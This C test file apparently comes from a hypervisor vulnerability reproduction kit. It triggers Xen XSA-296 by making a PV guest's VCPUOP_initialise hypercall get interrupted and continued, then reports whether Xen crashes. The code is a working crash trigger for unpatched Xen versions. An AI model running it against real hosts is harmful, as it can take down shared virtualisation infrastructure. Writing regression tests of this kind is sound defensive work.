/* SPDX-License-Identifier: MIT */
/*
 * XSA-296 (CVE-2019-18420): VCPUOP_initialise, interrupted.
 *
 * @title     VCPUOP_initialise that takes long enough to be continued
 * @advisory  https://xenbits.xen.org/xsa/advisory-296.html
 * @affected  Xen up to 4.12.1; fixed in 4.12.2
 * @platforms xen-pv
 * @needs     smp=2
 * @expect    4.12.2+=good
 *
 * Background: Xen interrupts a long call when an event is pending: it writes the remaining
 * arguments into the guest's registers, so that the guest makes the call again (a continuation). A
 * format string like printf's describes the arguments.
 *
 * Mechanism: the format string for VCPUOP_initialise of a PV guest was wrong, which ends in a
 * BUG(), or in later versions in a crash of the guest.
 *
 * Here the new vCPU gets page tables that Xen has not validated yet, and an event is pending from
 * the start. The interrupt's frame shows whether the call was interrupted: its instruction pointer
 * is then at the hypercall, not after it.
 *
 * Verdicts: good: the call was continued and succeeded. bad: the hypervisor crashes, or it crashes
 * the guest.
 *
 * Cannot tell: if the call completes before Xen checks for events.
 */
#include "kernel/irq.h"
#include "pv/xen/xen.h"
#include "repro/kit.h"

#define TABLE (PTE_PRESENT | PTE_WRITE | PTE_ACCESSED | PTE_USER)

static u64 interrupted_at;
static u64 interrupted_rax;

static void on_event(void *data)
{
    (void)data;
    if (!interrupted_at) {
        interrupted_at = irq_frame()->rip;
        interrupted_rax = irq_frame()->rax;
    }
}

/* A tree that maps nothing, with many tables of level 1. */
static u64 *root_of_new_tree(void)
{
    u64 *root = kit_frame(), *level3 = kit_frame(), *level2 = kit_frame();

    for (u32 i = 0; i < 8; i++)
        level2[i] = KIT_RAW(kit_table(), TABLE);
    level3[0] = KIT_RAW(level2, TABLE);
    root[0] = KIT_RAW(level3, TABLE);
    pv_announce_table(va_to_pfn(level2), 2);
    pv_announce_table(va_to_pfn(level3), 3);
    pv_announce_table(va_to_pfn(root), 4);
    return root;
}

REPRO("xsa-296")
{
    struct vcpu_guest_context *context = kit_pages(2);
    int line;
    long result = KIT_NOT_MADE;

    kit_needs(KIT_XEN_PV);
    if (hc_vcpu_op(VCPUOP_is_up, 1, NULL))
        cannot_tell("there is no second vCPU that is down");
    context->flags = VGCF_in_kernel;
    context->user_regs.cs = FLAT_KERNEL_CS;
    context->user_regs.ss = FLAT_KERNEL_SS;
    context->ctrlreg[3] = xen_pfn_to_cr3(kit_mfn(root_of_new_tree()));
    line = pv_irq_bind(PV_IRQ_SOFT, 0);
    MUST(line);
    MUST(irq_request((u32)line, on_event, NULL));
    dying_is_bad("Xen ended the guest when the call was to be continued");

    /* The event must wait, and be let in without Xen being asked to deliver it at once. */
    pv_irq_disable();
    pv_irq_raise((u32)line);
    WRITE_ONCE(xen_vcpu_info()->evtchn_upcall_mask, 0);
    STEP result = hc_vcpu_op(VCPUOP_initialise, 1, context);
    dying_is_bad(NULL);
    if (result || !interrupted_at)
        cannot_tell("result %ld, interrupted at 0x%llx", result,
                    (unsigned long long)interrupted_at);
    if (interrupted_rax != __HYPERVISOR_vcpu_op)
        cannot_tell("the call was not interrupted");
    exercised();
    good("the call was interrupted, continued, and succeeded");
}
